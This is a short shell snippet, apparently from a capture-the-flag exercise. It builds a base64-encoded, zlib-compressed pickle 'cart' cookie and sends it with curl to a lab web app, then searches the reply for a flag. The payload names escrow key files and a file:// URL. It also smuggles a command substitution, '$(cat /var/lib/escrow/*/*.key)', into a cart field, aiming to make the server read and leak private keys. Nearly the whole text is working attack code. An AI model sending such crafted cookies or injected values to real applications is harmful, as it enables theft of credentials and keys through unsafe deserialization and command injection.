#-- a cart that only names files, and a shop that one may hope reads them
cat > /tmp/cart.py <<'PY'
import base64, pickle, zlib
things = ["/var/lib/escrow/*/*.key", "file:///var/lib/escrow", "$(cat /var/lib/escrow/*/*.key)"]
print(base64.urlsafe_b64encode(zlib.compress(pickle.dumps({"things": things}))).decode())
PY
curl -s -b "cart=$(python3 /tmp/cart.py)" http://app:8080/ | grep -o 'flag{[0-9a-f]*}' || echo none
